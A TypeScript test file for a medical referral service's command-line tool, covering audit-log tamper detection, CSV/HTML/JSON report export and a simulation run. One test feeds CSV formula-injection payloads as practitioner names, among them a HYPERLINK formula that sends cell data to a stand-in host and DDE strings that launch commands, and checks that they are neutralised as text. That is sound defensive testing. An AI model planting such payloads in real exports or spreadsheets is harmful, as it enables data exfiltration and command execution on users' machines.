import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { openDatabase } from '../../src/storage/database.js';
import { runCli } from '../../src/cli/run-cli.js';
import { makeReferral } from '../../src/use-cases/make-referral.js';
import { practitionersAround } from '../support/factories.js';
import { givenService, type TestService } from '../support/test-service.js';

const CLI = fileURLToPath(new URL('../../src/cli/main.ts', import.meta.url));
const PARIS_2E = { lat: 48.8686, lon: 2.3314 };

/** Runs the CLI as an operator would, in its own process. */
function cli(...args: string[]) {
  const run = spawnSync(process.execPath, ['--import', 'tsx', CLI, ...args], { encoding: 'utf8' });
  return { status: run.status, stdout: run.stdout, stderr: run.stderr };
}

describe('referral-service audit verify', () => {
  let service: TestService;
  let databasePath: string;
  before(async () => {
    service = givenService(practitionersAround(20, PARIS_2E, 'ophtalmologie', 2));
    for (let i = 0; i < 12; i++) await makeReferral(service.services.referralContext, { specialty: 'ophtalmologie', location: PARIS_2E });
    databasePath = join(service.dir, 'referrals.sqlite');
  });
  after(() => service.close());

  it('when the log is intact, then it exits 0 and says how much it replayed', () => {
    const run = cli('audit', 'verify', '--database', databasePath);
    expect(run.status, run.stderr).to.equal(0);
    expect(run.stdout).to.match(/^verified: 12 entries replayed/);
  });

  it('when asked for JSON, then the report is machine-readable', async () => {
    const lines: string[] = [];
    const status = await runCli(['audit', 'verify', '--database', databasePath, '--json'], (line) => lines.push(line), () => {});
    expect(status).to.equal(0);
    expect(JSON.parse(lines.join('\n'))).to.include({ verified: true, entries: 12, seedsChecked: 12, divergence: null });
  });

  it('when an entry was edited, then it exits 1 naming the entry, the check, what was expected and what was found', async () => {
    const tampered = join(service.dir, 'tampered.sqlite');
    await service.services.db.backup(tampered);
    const copy = openDatabase(tampered);
    copy.prepare("UPDATE referrals SET seed = '0123456789abcdef0123456789abcdef' WHERE sequence = 7").run();
    copy.close();

    const run = cli('audit', 'verify', '--database', tampered);

    expect(run.status).to.equal(1);
    // The entry no longer hashes to what it says: caught before anything is computed from it.
    expect(run.stdout).to.match(/NOT VERIFIED: the referral log diverges at entry 7 \(check: hash\)/);
    expect(run.stdout).to.match(/expected: +[0-9a-f]{64}\n +found: +[0-9a-f]{64}/);
    expect(run.stdout).to.match(/6 entries before it replayed without divergence/);
  });

  it('when the command or the database is wrong, then it exits 2 with the usage', () => {
    const unknown = cli('audit', 'frobnicate');
    expect(unknown.status).to.equal(2);
    expect(unknown.stderr).to.match(/unknown command "audit frobnicate"/);
    expect(unknown.stderr).to.match(/usage: npm run cli -- <command>/);
    const missing = cli('audit', 'verify', '--database', join(service.dir, 'nothing-here.sqlite'));
    expect(missing.status).to.equal(2);
    expect(missing.stderr).to.match(/No database at/);
    const noSecrets = cli('audit', 'verify', '--export', join(service.dir, 'log.ndjson'));
    expect(noSecrets.status).to.equal(2);
    expect(noSecrets.stderr).to.match(/audit verify --export needs --commitments FILE/);
  });
});

describe('referral-service audit report', () => {
  let service: TestService;
  before(async () => {
    service = givenService(practitionersAround(20, PARIS_2E, 'ophtalmologie', 2));
    for (let i = 0; i < 8; i++) await makeReferral(service.services.referralContext, { specialty: 'ophtalmologie', location: PARIS_2E });
  });
  after(() => service.close());

  it('when asked for a day, then the file is written in the format of its extension and a summary printed', () => {
    const out = join(service.dir, 'report.csv');
    const run = cli('audit', 'report', '--database', join(service.dir, 'referrals.sqlite'), '--from', '2026-11-23', '--out', out);
    expect(run.status, run.stderr).to.equal(0);
    expect(run.stdout).to.match(/8 referrals, \d+ practitioners, .*per-practitioner rank test 0 tested, 0 flagged; log verified/);
    expect(readFileSync(out, 'utf8').split('\n')[0]).to.match(/^national_id,name,specialty,expected,offered,ratio,deficit,rank_1/);
  });

  it('when written as HTML, then the page names every practitioner and says where the full list is, with no link to a server', () => {
    const out = join(service.dir, 'report.html');
    const run = cli('audit', 'report', '--database', join(service.dir, 'referrals.sqlite'), '--from', '2026-11-23', '--out', out);
    expect(run.status, run.stderr).to.equal(0);
    const html = readFileSync(out, 'utf8');
    expect(html).to.include('is the CSV report: <code>audit report</code> with the same options and an <code>--out</code> file ending in <code>.csv</code>.');
    expect(html).to.not.match(/<td>—<\/td>|id="full-csv"/);
  });

  it('when a name starts a formula, then the CSV file holds it as text for a spreadsheet', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", 'Dupont-Martin'];
    const named = givenService(practitionersAround(5, PARIS_2E, 'pediatrie').map((practitioner, i) => ({ ...practitioner, lastName: formulas[i] as string })));
    try {
      await makeReferral(named.services.referralContext, { specialty: 'pediatrie', location: PARIS_2E });
      const out = join(named.dir, 'report.csv');
      const run = cli('audit', 'report', '--database', join(named.dir, 'referrals.sqlite'), '--from', '2026-11-23', '--out', out);
      expect(run.status, run.stderr).to.equal(0);
      const names = (parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[]).map((row) => row.name);
      expect(names).to.have.members([...formulas.slice(0, 4).map((formula) => `'${formula.toUpperCase()} Claire`), 'DUPONT-MARTIN Claire']);
    } finally {
      named.close();
    }
  });

  it('when the day is malformed or not in the calendar, then it exits 2 saying so', () => {
    for (const day of ['23/11/2026', '2026-02-30', '2026-04-31']) {
      const run = cli('audit', 'report', '--database', join(service.dir, 'referrals.sqlite'), '--from', day, '--out', join(service.dir, 'r.json'));
      expect(run.status, day).to.equal(2);
      expect(run.stderr, day).to.include(`"${day}" is not a day of the calendar written YYYY-MM-DD`);
    }
  });

  it('when --out names no format and --format is not given, then it exits 2 asking for one', () => {
    const run = cli('audit', 'report', '--database', join(service.dir, 'referrals.sqlite'), '--out', join(service.dir, 'report'));
    expect(run.status).to.equal(2);
    expect(run.stderr).to.include('does not end in .json, .csv or .html: name the format with --format json|csv|html');
  });

  it('when a count is empty, then it exits 2 rather than take it for zero', () => {
    const run = cli('simulate', '--referrals', '');
    expect(run.status).to.equal(2);
    expect(run.stderr).to.include('--referrals must be a whole number, got ""');
  });
});

describe('referral-service simulate', function () {
  this.timeout(120_000);

  it('when run briefly, then every referral is accounted for, the figures are reported and the log replays', () => {
    const run = cli('simulate', '--referrals', '300', '--seed', '7', '--json');
    // Short runs may miss a statistical target (exit 1); the wiring is what is checked here.
    expect(run.status, run.stderr).to.be.oneOf([0, 1]);
    const result = JSON.parse(run.stdout);
    expect(result.metrics.referrals + result.unanswered).to.equal(300);
    expect(result.verification).to.include({ verified: true, entries: result.metrics.referrals });
    expect(result.metrics.consecutiveIdenticalOrders).to.equal(0);
    expect(result.report.summary.referrals).to.equal(result.metrics.referrals);
    expect(result.metrics.joiners, "five returning, five new").to.have.length(10);
  });
});
